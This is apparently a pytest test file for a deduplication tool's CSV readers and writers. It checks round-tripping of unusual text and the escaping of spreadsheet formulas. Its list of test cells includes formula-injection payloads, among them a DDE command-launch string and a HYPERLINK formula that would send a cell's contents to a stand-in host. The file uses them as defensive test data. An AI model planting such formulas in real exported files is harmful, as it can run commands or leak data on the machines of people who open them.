"""Tables in CSV: what any reader of ours, or of others, sees is what was written, cell by cell."""

import contextlib
import csv
import tempfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dedup.detection.detector import clustered_table
from dedup.detection.ground_truth import read_truth
from dedup.detection.results import DetectionResult
from dedup.errors import ConfigError, SourceError
from dedup.reports.csv import COLUMNS, RELATED_COLUMNS, SHARED_COLUMNS, CsvReport
from dedup.runtime.tables import harmless, write_csv, write_rows
from dedup.schemas import FAMILIES, GROUPS, INDEX_IMAGES, PAIRS, SHARED
from dedup.search.index import Index
from dedup.search.update import listed_ids
from dedup.sources.csv import MAX_FIELD, CsvSource
from dedup.store.failures import PREFIX, account
from tests.support.effort import examples

Rows = list[list[str]]

ODD = "\r\n\",;\t '\0\x01\x0b\x0c\x1a\x1b\x1c\x7f\x85\u2028\u2029\u202e\u3000\ufeff\uffff=+-@1a裤😀"
TEXT = st.text(st.sampled_from(ODD), max_size=6) | st.text(max_size=12)
"""Any text over all of Unicode, and what is apt to be misread more often than chance has it."""
MANY = settings(max_examples=examples(150), deadline=None)


@contextlib.contextmanager
def folder() -> Iterator[Path]:
    """An empty folder: a fixture would be shared by all examples of a test."""
    with tempfile.TemporaryDirectory() as name:
        yield Path(name)


@st.composite
def tables(draw: st.DrawFn, least: int = 1, most: int = 4) -> Rows:
    """A header of distinct names, and records of as many cells."""
    header = draw(st.lists(TEXT, min_size=least, max_size=most, unique=True))
    record = st.lists(TEXT, min_size=len(header), max_size=len(header))
    return [header, *draw(st.lists(record, max_size=6))]


def frame(table: Rows) -> pd.DataFrame:
    return pd.DataFrame(table[1:], columns=table[0], dtype=str)


def records(path: Path) -> Rows:
    """As the standard library reads them."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


@MANY
@given(tables())
@example([["\ufeffid"], ["\ufeff"]])
@example([["PK\x03\x04", "b"], ["", ""]])
@example([[""], [""], [" "], ["\t"], ["\r"], ["\n"], ["\u2028"], ["x"]])
@example([["a", "b"], ["", ""], ["1\r2", "3\n4"], ['"', '""'], [" ", "\0"]])
def test_every_reader_sees_what_was_written(table: Rows) -> None:
    with folder() as place:
        path = place / "table.csv"
        write_csv(frame(table), path)
        assert records(path) == table
        write_rows(table[0], iter(table[1:]), place / "same.csv")
        assert (place / "same.csv").read_bytes() == path.read_bytes()
        if not any("\0" in cell for row in table for cell in row):  # where pandas ends a cell
            found = pd.read_csv(path, header=None, dtype=str, na_filter=False)
            assert found.to_numpy().tolist() == table
        if len(table[0]) > 1:
            pairs = [row[:2] for row in table[1:] if row[0] != row[1]]
            assert read_truth(path).to_numpy().tolist() == pairs
        as_catalogue(table, path)


def as_catalogue(table: Rows, path: Path) -> None:
    """Compare a table with its file as a source reads it: each record is a row with a status."""
    header, *rows = table
    blank = [not any(map(str.strip, row)) for row in rows]
    source = CsvSource(
        str(path), id_column=header[0], url_column=header[-1], title_column=None, choice="all",
        continue_rows=False,
    )  # fmt: skip
    if all(blank):
        with pytest.raises(SourceError, match="0 products"):
            source.read()
        return
    catalogue = source.read()
    assert list(catalogue.products.columns) == header
    assert catalogue.products.to_numpy().tolist() == rows
    first = catalogue.requests.drop_duplicates("record")
    assert first["record"].tolist() == list(range(len(rows)))
    assert first["product_id"].tolist() == [row[0] for row in rows]
    for row, is_blank, reason in zip(rows, blank, first["reason"], strict=True):
        assert (reason == "blank_row") == is_blank
        assert (reason == "no_id") == (not is_blank and not row[0].strip())
        assert (reason == "bad_id") == ("\0" in row[0] and bool(row[0].strip()))
    find_edited_copies(all_failed(source, path), table)


def all_failed(source: CsvSource, path: Path) -> Path:
    """``failures.csv`` of a catalogue none of whose images is found; its path."""
    catalogue = source.read()
    images = catalogue.requests.drop_duplicates("record").assign(detail="")
    open_rows = images["status"] == ""
    images.loc[open_rows, ["status", "reason"]] = ["failed", "not_found"]
    failures = path.with_name("failures.csv")
    with pytest.raises(SourceError, match="not one of"):
        account(catalogue, images, failures)
    return failures


def find_edited_copies(failures: Path, table: Rows) -> None:
    """Compare the user's own columns of ``failures.csv`` with a table."""
    header, *found = records(failures)
    own = [place for place, name in enumerate(table[0]) if not name.startswith(PREFIX)]
    assert header[: len(own)] == [table[0][place] for place in own]
    assert [row[: len(own)] for row in found] == [[row[p] for p in own] for row in table[1:]]


@MANY
@given(tables(least=2))
def test_the_catalogue_comes_back_with_its_clusters(table: Rows) -> None:
    rows = [row for row in table[1:] if any(map(str.strip, row))]
    products = frame([table[0], *rows])
    images = pd.DataFrame({"record": np.arange(len(rows)), "vector": 0, "cluster": 3})
    images = images.reindex(columns=INDEX_IMAGES.names)
    index = Index(images, np.zeros((1, 2), np.float32), np.zeros((4, 2), np.float32), products)
    expected = [[*table[0], "cluster"], *([*row, "3"] for row in rows)]
    if "cluster" in table[0]:
        return
    with folder() as place:
        write_csv(clustered_table(index), place / "catalogue.csv")
        assert records(place / "catalogue.csv") == expected


def found_with(texts: Sequence[str]) -> DetectionResult:
    """A result in which each text stands in every column of texts."""
    pairs = pd.DataFrame(
        [(f"{text}a", f"{text}b", 0.1, "near", text, text, 0.7, text, text) for text in texts],
        columns=PAIRS.names,
    )
    ids = dict.fromkeys(pairs["product_id_a"].tolist() + pairs["product_id_b"].tolist())
    groups = pd.DataFrame([(key, texts[0], False) for key in ids], columns=GROUPS.names)
    families = pd.DataFrame([(key, key, key) for key in ids], columns=FAMILIES.names)
    shared = pd.DataFrame([("f" * 64, text, text, 7, text) for text in texts], columns=SHARED.names)
    return DetectionResult(pairs, groups, shared, related=pairs, families=families)


def index_with(texts: Sequence[str]) -> Index:
    """An index whose products have these titles."""
    rows = [(f"{text}{end}", text) for text in texts for end in "ab"]
    products = pd.DataFrame(rows, columns=["id", "title"], dtype=object)
    manifest = {"id_column": "id", "title_column": "title"}
    empty = np.zeros((0, 2), np.float32)
    return Index(pd.DataFrame(columns=INDEX_IMAGES.names), empty, empty, products, manifest)


@MANY
@given(st.lists(TEXT, min_size=1, max_size=5, unique=True))
def test_every_report_comes_back(texts: list[str]) -> None:
    with folder() as place:
        path = CsvReport().write(found_with(texts), index_with(texts), place)
        group, size = texts[0], str(2 * len(texts))
        titles = [text if text.strip() else "" for text in texts]
        assert records(path) == [
            [*COLUMNS],
            *(
                [
                    *(f"{t}a", f"{t}b", "0.1", "near", group, t, t, "0.7"),
                    *(t or "near: distance 0.1", t, "", size, title, title, t, t),
                ]
                for t, title in zip(texts, titles, strict=True)
            ),
        ]
        assert records(place / "related.csv") == [
            [*RELATED_COLUMNS],
            *(
                [f"{t}a", f"{t}b", t, family(t), "0.1", t, t, "0.7", t, title, title, t, t]
                for t, title in zip(texts, titles, strict=True)
            ),
        ]
        assert records(place / "shared.csv") == [
            [*SHARED_COLUMNS], *([t, t, "7", t, "f" * 12] for t in texts),
        ]  # fmt: skip
        assert read_truth(path).to_numpy().tolist() == [[f"{t}a", f"{t}b"] for t in texts]


def family(relation: str) -> str:
    return f"{relation}a" if relation == "colour variant" else ""


@MANY
@given(st.lists(TEXT.filter(lambda text: text and not {*text} & {*"\r\n"}), unique=True))
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_ids_stand_on_lines_of_their_own(end: str, ids: list[str]) -> None:
    with folder() as place:
        path = place / "ids.txt"
        path.write_bytes(("\ufeff" + end.join([*ids, ""])).encode())
        assert listed_ids(str(path)) == ids
    assert listed_ids(ids) == ids


def test_ids_that_cannot_be_read_are_a_wrong_setting(tmp_path: Path) -> None:
    (tmp_path / "ids.txt").write_bytes(b"caf\xe9\n")
    with pytest.raises(ConfigError, match=r"cannot read .*ids\.txt.*UTF-8"):
        listed_ids(str(tmp_path / "ids.txt"))
    with pytest.raises(ConfigError, match="is not a file"):
        listed_ids(7)
    assert listed_ids([7, "a\nb"]) == ["7", "a\nb"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a,b\nA,B\nC\n", "1 column in line 3"),
        ('a,b\n"A,B\nC,D\n', "cannot be read after line 1"),
        ('a,b\nA,B\n"C"x,D\n', "cannot be read after line 2"),
        (f"a,b\nA,B\nC,{'x' * (MAX_FIELD + 1)}\n", "field larger than field limit"),
    ],
)
def test_true_pairs_are_misread_nowhere(tmp_path: Path, text: str, said: str) -> None:
    path = tmp_path / "truth.csv"
    path.write_text(text)
    with pytest.raises(ConfigError, match=said):
        read_truth(path)
    path.unlink()
    with pytest.raises(
        ConfigError, match=r"truth\.csv cannot be read \(No such file.*check the path"
    ):
        read_truth(path)


def test_a_forged_row_stays_in_its_cell(tmp_path: Path) -> None:
    rows = [
        ["P1", f"Skirt{end}P2,Forged,http://shop.test/1.jpg", "u"] for end in ("\r", "\n", "\r\n")
    ]
    as_is = [["productId", "title", "imageUrlStr"], *rows]
    write_csv(frame(as_is), tmp_path / "table.csv")
    assert CsvSource(str(tmp_path / "table.csv")).read().products.to_numpy().tolist() == rows
    found = pd.read_csv(tmp_path / "table.csv", dtype=str)
    assert found.to_numpy().tolist() == rows


def test_what_no_reader_takes_whole_has_a_status(tmp_path: Path) -> None:
    rows = [["P1", "x" * (MAX_FIELD + 1), "u"], ["P2", "x" * MAX_FIELD, "u"]]
    write_csv(frame([["productId", "title", "imageUrlStr"], *rows]), tmp_path / "table.csv")
    catalogue = CsvSource(str(tmp_path / "table.csv")).read()
    assert catalogue.products.to_numpy().tolist() == rows
    assert catalogue.requests["reason"].tolist() == ["field_too_long", ""]


def test_half_a_pair_of_surrogates_is_shown(tmp_path: Path) -> None:
    write_rows(["name"], [["caf\udce9.jpg"]], tmp_path / "table.csv")
    assert records(tmp_path / "table.csv") == [["name"], [r"caf\udce9.jpg"]]


def test_two_columns_of_one_name_are_written_and_nothing_is_missing(tmp_path: Path) -> None:
    table = pd.DataFrame([["1", None], [float("nan"), "4"]], columns=["a", "a"])
    write_csv(table, tmp_path / "table.csv")
    assert records(tmp_path / "table.csv") == [["a", "a"], ["1", ""], ["", "4"]]
    for empty in (pd.DataFrame(), pd.DataFrame(index=[0, 1])):
        write_csv(empty, tmp_path / "table.csv")
        assert records(tmp_path / "table.csv") == [[]]
    write_csv(pd.DataFrame(columns=["a", "b"]), tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_bytes() == b"a,b\n"


PLAIN = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\r\ufeff"))


@MANY
@given(st.lists(st.tuples(PLAIN, PLAIN), max_size=6))
def test_ordinary_cells_have_the_bytes_that_they_always_had(rows: list[tuple[str, str]]) -> None:
    table = pd.DataFrame(rows, columns=["productId", "title"], dtype=str)
    table = table.assign(n=range(len(rows)), share=[n / 7 for n in range(len(rows))])
    with folder() as place:
        write_csv(table, place / "table.csv")
        expected = table.to_csv(index=False, lineterminator="\n")
        assert (place / "table.csv").read_bytes() == expected.encode()


RUN = [
    *("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1)', "\t=1"),
    *("\r=1", "\n=1", "\tx", "\rx", "\nx", " =1", "\u3000=1", "\xa0@x", "\ufeff=1", "\x00=1"),
    *("\uff1d1", "\uff0b1+1", "\uff0dx", "\uff20x", "\ufe661", "\x1b=1", "\x85=1"),
    *("=", "-", "+-1", "--1", "-1a"),
]  # fmt: skip
LEFT = ["", "a=1", "a", "'=1", "1", "-1", "+44", "-1.5e-3", "1,5", ".5", "http://x/=", "x\n=1"]


@pytest.mark.parametrize("cell", RUN)
def test_a_formula_is_told(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*LEFT, -1, -1.5, None, True])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert harmless(cell) is cell


@MANY
@given(tables())
def test_no_cell_of_an_escaped_table_is_run(table: Rows) -> None:
    with folder() as place:
        write_csv(frame(table), place / "table.csv", "escape")
        for written, read in zip(table, records(place / "table.csv"), strict=True):
            assert read == [harmless(cell) for cell in written]
            assert [harmless(cell) for cell in read] == read


def test_formulas_are_escaped_in_every_table_that_is_asked_for(tmp_path: Path) -> None:
    CsvReport("escape").write(found_with(["=1"]), index_with(["=1"]), tmp_path)
    path = tmp_path / "products.csv"
    write_csv(frame([["productId", "imageUrlStr"], ["=1+1", "a.jpg"]]), path)
    catalogue = CsvSource(str(path)).read()
    images = catalogue.requests.assign(status="failed", reason="gone", detail="")
    with pytest.raises(SourceError):
        account(catalogue, images, tmp_path / "failures.csv", "escape")
    for name in ("duplicates", "related", "shared", "failures"):
        _, row = records(tmp_path / f"{name}.csv")
        assert [cell for cell in row if "=1" in cell]
        assert not [cell for cell in row if cell.startswith("=")], name


@pytest.mark.parametrize("write", [write_csv, lambda t, *more: write_rows([], [], *more)])
def test_another_way_with_formulas_is_a_wrong_setting(
    tmp_path: Path, write: Callable[..., None]
) -> None:
    with pytest.raises(ConfigError, match="formulas=drop: use one of keep, escape"):
        write(pd.DataFrame(), tmp_path / "table.csv", "drop")
